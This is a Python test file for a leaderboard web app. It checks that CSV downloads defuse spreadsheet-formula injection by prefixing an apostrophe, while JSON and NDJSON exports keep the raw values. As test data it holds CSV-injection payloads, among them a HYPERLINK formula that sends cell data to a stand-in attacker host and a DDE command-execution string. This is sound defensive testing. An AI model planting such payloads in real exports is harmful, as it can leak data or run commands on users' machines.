"""CSV downloads never hand a spreadsheet a formula to run: text cells that start like one go out
behind a `'` (OWASP's "CSV Injection"); numbers, the JSON download and the export keep the
exact value."""

import csv
import io

import httpx

from editing.dataset import dataset_from_lines
from store import Store
from store.queries import Collection
from tests.conftest import GraphQLClient
from tests.http.reads.test_leaderboard_reads import GENERAL, record

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3"


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_formulas_written_by_a_mutation_go_out_neutralised(
    admin: GraphQLClient, client: httpx.AsyncClient
) -> None:
    entry = {
        "modelName": HYPERLINK,
        "setting": MINUS,
        "score": 61.5,
        "source": COMMAND,
        "note": SUM,
    }
    recorded = await record(admin, "2026-11-20", [entry])
    assert "errors" not in recorded, recorded["errors"]

    [row] = csv_rows(await client.get(f"/benchmarks/{GENERAL}.csv"))
    assert (row["model"], row["listed_as"]) == ("'" + HYPERLINK, "'" + HYPERLINK)
    assert (row["setting"], row["source"], row["note"]) == ("'" + MINUS, "'" + COMMAND, "'" + SUM)
    assert row["score"] == "61.5"

    downloaded = (await client.get(f"/benchmarks/{GENERAL}.json")).json()
    [line] = downloaded["leaderboard"]
    assert (line["modelName"], line["setting"], line["source"], line["note"], line["score"]) == (
        HYPERLINK,
        MINUS,
        COMMAND,
        SUM,
        61.5,
    )
    exported = dataset_from_lines((await client.get("/export.ndjson")).text)
    [general] = [item for item in exported["benchmarks"] if item["slug"] == GENERAL]
    [kept] = general["reads"][-1]["entries"]
    assert (kept["model_name"], kept["setting"], kept["source"], kept["note"]) == (
        HYPERLINK,
        MINUS,
        COMMAND,
        SUM,
    )


async def test_a_stored_cell_starting_with_a_tab_or_a_return_is_neutralised(
    store: Store, client: httpx.AsyncClient
) -> None:
    """Whatever the store holds (written before the inputs refused control characters, say)."""
    [benchmark] = await store.benchmarks_by_slugs([GENERAL])
    first = benchmark["entries"][0]
    stored = {**first, "setting": "\t=1+1", "note": "\r=2+2", "score": -1.5}
    entries = [stored, *benchmark["entries"][1:]]
    changed = {**benchmark, "entries": entries}
    assert await store.replace_at_revision(
        Collection.BENCHMARKS, GENERAL, benchmark["revision"], changed
    )

    rows = csv_rows(await client.get(f"/benchmarks/{GENERAL}.csv"))
    [row] = [row for row in rows if row["model"] == first["model_name"]]
    assert (row["setting"], row["note"]) == ("'\t=1+1", "'\r=2+2")
    assert row["score"] == "-1.5"  # a negative score is a number, not a formula


async def test_a_models_csv_neutralises_its_text_cells(
    store: Store, client: httpx.AsyncClient
) -> None:
    [benchmark] = await store.benchmarks_by_slugs([GENERAL])
    changed = {**benchmark, "name": "=1+1 General"}
    assert await store.replace_at_revision(
        Collection.BENCHMARKS, GENERAL, benchmark["revision"], changed
    )

    rows = csv_rows(await client.get("/models/qwen-14b.csv"))
    [row] = [row for row in rows if row["benchmark"] == GENERAL]
    assert row["benchmark_name"] == "'=1+1 General"
